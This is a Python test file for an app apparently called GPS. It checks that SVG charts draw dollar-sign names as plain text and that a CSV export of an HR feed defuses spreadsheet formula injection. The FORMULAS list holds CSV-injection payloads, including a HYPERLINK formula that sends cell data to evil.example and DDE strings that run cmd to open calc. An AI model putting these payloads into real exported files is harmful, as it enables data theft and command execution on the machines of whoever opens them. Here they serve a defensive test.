"""What GPS writes for others to open is inert: CSV cells cannot run as spreadsheet
formulas, and names drawn on charts are text, never parsed as mathtext."""

from __future__ import annotations

import csv
import io
import xml.etree.ElementTree as ET

from datetime import UTC, datetime

import pytest

from app.db.growth import HrEvent, Objective
from app.db.models import id_of
from app.domain import spreadsheet
from app.domain.spreadsheet import FORMULA_STARTS
from tests.factories import new_person, new_team

SVG_NS = "{http://www.w3.org/2000/svg}"
MATH_NAMES = ["$x^$", r"$\frac{}{}$", "$$", "Team $\\alpha$ and $5"]


def _texts(answer) -> list[str]:
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith("image/svg+xml")
    root = ET.fromstring(answer.content)
    return ["".join(node.itertext()) for node in root.iter() if node.tag == f"{SVG_NS}text"]


@pytest.mark.parametrize("name", MATH_NAMES)
def test_a_team_name_with_dollars_is_drawn_as_text(client, db, as_, name):
    lead = new_person(db, kind="employee", band="7", roles=["team_lead"])
    members = [new_person(db) for _ in range(3)]
    team = new_team(db, members=members, lead=lead, name=name)
    answer = client.get(f"/v1/reports/teams/{team.id}", headers={
        **as_(lead), "Accept": "image/svg+xml"})
    assert any(name in t for t in _texts(answer))


@pytest.mark.parametrize("name", MATH_NAMES)
def test_a_person_name_with_dollars_is_drawn_as_text(client, db, as_, name):
    manager = new_person(db, band="8a", name="Manager $x")
    new_person(db, line_manager=manager, name=name)
    answer = client.get("/v1/reports/participation", headers={
        **as_(manager), "Accept": "image/svg+xml"})
    assert name in _texts(answer)


# --- CSV -------------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1,"click")', "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.fixture
def hr_client(client, db, as_):
    admin = new_person(db, roles=["admin"])
    created = client.post("/v1/service-accounts", headers=as_(admin),
                          json={"name": "HR system", "scopes": ["hr.feed:read"]}).json()
    token = client.post("/v1/auth/token", data={
        "grant_type": "client_credentials", "client_id": created["client_id"],
        "client_secret": created["client_secret"]}).json()["access_token"]
    return {"Authorization": f"Bearer {token}"}


def test_the_hr_feed_csv_never_starts_a_cell_with_a_formula(client, db, hr_client):
    owner = new_person(db, employee_number="=1+1")
    objective = Objective(person_id=id_of(owner), title="x", quarter="2026-Q4",
                          twenty_percent_time=True, status="completed")
    db.add(objective)
    db.commit()
    for title in FORMULAS:
        db.add(HrEvent(event_type="objective.completed", occurred_at=datetime.now(UTC),
                       objective_id=id_of(objective), person_id=id_of(owner),
                       employee_number=owner.employee_number, title=title, quarter="2026-Q4",
                       twenty_percent_time=True, quality_dashboard_outcome="@evil"))
    db.commit()
    answer = client.get("/v1/hr/objective-completions",
                        headers={**hr_client, "Accept": "text/csv"})
    assert answer.status_code == 200, answer.text
    rows = list(csv.DictReader(io.StringIO(answer.text, newline="")))
    assert [r["title"] for r in rows] == ["'" + f for f in FORMULAS]
    assert {r["employee_number"] for r in rows} == {"'=1+1"}
    assert {r["quality_dashboard_outcome"] for r in rows} == {"'@evil"}
    for r in rows:
        assert not any(value.startswith(FORMULA_STARTS) for value in r.values())
    # The JSON feed is data, not a spreadsheet: titles stay as written.
    as_json = client.get("/v1/hr/objective-completions", headers=hr_client).json()
    assert [i["title"] for i in as_json["items"]] == FORMULAS


def test_only_formula_starts_are_changed():
    assert spreadsheet.row(["Ship it", "a=b", "", None, 7, "'quoted"]) == [
        "Ship it", "a=b", "", "", "7", "'quoted"]
